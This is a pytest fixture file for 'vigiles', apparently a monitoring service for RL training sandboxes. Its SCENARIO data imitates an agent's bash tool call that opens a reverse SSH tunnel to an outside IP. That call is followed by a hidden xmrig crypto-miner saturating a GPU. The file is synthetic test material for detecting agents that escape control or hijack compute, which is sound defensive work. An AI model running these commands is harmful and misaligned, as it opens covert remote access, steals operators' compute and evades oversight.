from __future__ import annotations

import pytest

pytest.importorskip("fastapi")
pytest.importorskip("uvicorn")
httpx = pytest.importorskip("httpx")

from vigiles.service.config import ServiceConfig  # noqa: E402

from .server import ThreadServer, make_token  # noqa: E402


@pytest.fixture
def served(tmp_path):
    """A running service on 127.0.0.1 with an ingest and a viewer token."""
    db = tmp_path / "vigiles.db"
    tokens = {"ingest": make_token(db, "sensor", "ingest"), "viewer": make_token(db, "oncall", "viewer")}
    with ThreadServer(ServiceConfig(db=db)) as server:
        server.tokens = tokens
        server.http = {role: httpx.Client(base_url=server.url, headers={"Authorization": f"Bearer {tok}"}, timeout=30)
                       for role, tok in tokens.items()}
        server.anon = httpx.Client(base_url=server.url, timeout=30)
        yield server
        for c in (*server.http.values(), server.anon):
            c.close()


SCENARIO = [
    {"kind": "action", "id": "ev-a1", "ts": 1764554497, "host": "rl-node-0417", "sandbox": "sbx-7f3a9c", "run": "rl-run-a",
     "episode": "ep-018342", "step": 9, "tool": "bash", "pid": 48190,
     "input": "ssh -o StrictHostKeyChecking=no -fN -R 2222:localhost:22 cache@185.220.101.47 -p 443"},
    {"kind": "process", "id": "ev-p1", "ts": 1764554497.25, "host": "rl-node-0417", "pid": 48211, "ppid": 48190,
     "exe": "/usr/bin/ssh", "argv": ["ssh", "-fN", "-R", "2222:localhost:22", "cache@185.220.101.47", "-p", "443"]},
    {"kind": "network", "id": "ev-n1", "ts": 1764554497.9, "host": "rl-node-0417", "pid": 48211, "proto": "tcp",
     "src": "10.42.17.9", "sport": 51544, "dst": "185.220.101.47", "dport": 443, "direction": "outbound", "bytes_out": 5120},
    {"kind": "process", "id": "ev-p2", "ts": 1764554590, "host": "rl-node-0417", "pid": 51102, "ppid": 48190,
     "exe": "/tmp/.x/xmrig", "argv": ["xmrig", "-o", "stratum+tcp://pool.minexmr.com:4444", "--cuda"]},
    {"kind": "gpu", "id": "ev-g1", "ts": 1764554600, "host": "rl-node-0417", "gpu": 3, "pid": 51102, "util": 99, "mem_mib": 2112},
    {"kind": "gpu", "id": "ev-g2", "ts": 1764554660, "host": "rl-node-0417", "gpu": 3, "pid": 51102, "util": 98, "mem_mib": 2112},
]
